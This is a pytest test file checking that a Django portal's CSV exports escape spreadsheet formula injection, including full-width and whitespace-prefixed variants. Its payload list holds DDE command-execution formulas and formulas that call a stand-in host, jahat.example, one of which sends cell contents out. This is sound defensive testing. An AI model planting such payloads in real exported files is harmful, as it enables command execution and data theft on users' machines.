"""A39: a table that somebody opens runs nothing. Written, read back as a spreadsheet would; fails without the rule."""

from __future__ import annotations

import csv
import io
import re

import pytest

from terpadu.cases.models import Case
from terpadu.identity.looks.models import Answer
from terpadu.pages import csv as tables
from terpadu.services.catalogue import Catalogue
from tests.lib.portal_world import World

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://jahat.example","x")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1",
    "\n=1", " =1", "\u3000=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=IMPORTXML(CONCAT(\"https://jahat.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://jahat.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\u00a0=1", "\ufeff=1", "\u200b=1", "'\t=1",
]  # fmt: skip
"""What spreadsheets run, also after blanks and in full-width forms."""


def rows_of(written: str) -> list[list[str]]:
    """The table as a spreadsheet reads it, without its head."""
    return list(csv.reader(io.StringIO(written.removeprefix(tables.MARK))))[1:]


def runs(cell: str) -> bool:
    """Would a spreadsheet run it?"""
    return bool(re.match(r"[\s\ufeff\u200b]*[=+\-@＝＋－＠]", cell))


def dangerous(formulas: list[str]) -> list[str]:
    """Cells that would still run after the table was written and read again."""
    rows = rows_of(tables.table(["isi"], [[one] for one in formulas]))
    assert len(rows) == len(formulas), "one row stays one row"
    return [row[0] for row in rows if runs(row[0])]


def test_no_cell_is_a_formula() -> None:
    assert dangerous(FORMULAS) == []


def test_numbers_stay_numbers() -> None:
    assert [tables.cell(value) for value in (-5, 0.5, None, "081234")] == ["-5", "0.5", "", "081234"]


def test_without_the_rule_they_run(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "cell", str)
    assert len(dangerous(FORMULAS)) > 10


def exported(world: World, monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """Every table that the portal gives out, filled with formulas by agencies and by a service's own words."""
    answer = Answer.objects.get()
    answer.looks = [
        answer.looks[0] | {"number": f"n{number}", "office": text, "purpose_title": text, "basis": text, "system": text}
        for number, text in enumerate(FORMULAS)
    ]
    answer.save()
    Case.objects.update(service="=1+1")
    monkeypatch.setattr(Catalogue, "get", lambda self, name: None)
    monkeypatch.setattr("terpadu.cases.showing_office.title_of", lambda task: "=HYPERLINK(1)")
    found = []
    for role, path in (("owner", "/siapa-melihat/unduh.csv"), ("officer", "/petugas/antrean.csv")):
        file = world.browser(role).get(path)
        assert file["Content-Disposition"].startswith("attachment;")
        assert "no-store" in file["Cache-Control"]
        rows = rows_of(file.content.decode())
        assert rows, path
        found += rows
    return found


@pytest.mark.django_db
def test_no_table_of_the_portal_holds_a_formula(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = exported(world, monkeypatch)
    assert len(rows) >= len(FORMULAS) + 1
    assert not [cell for row in rows for cell in row if runs(cell)]
    assert "'=1+1" in {cell for row in rows for cell in row}, "it came, as a text"


@pytest.mark.django_db
def test_without_the_rule_the_tables_run(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "cell", str)
    assert len([cell for row in exported(world, monkeypatch) for cell in row if runs(cell)]) > 20
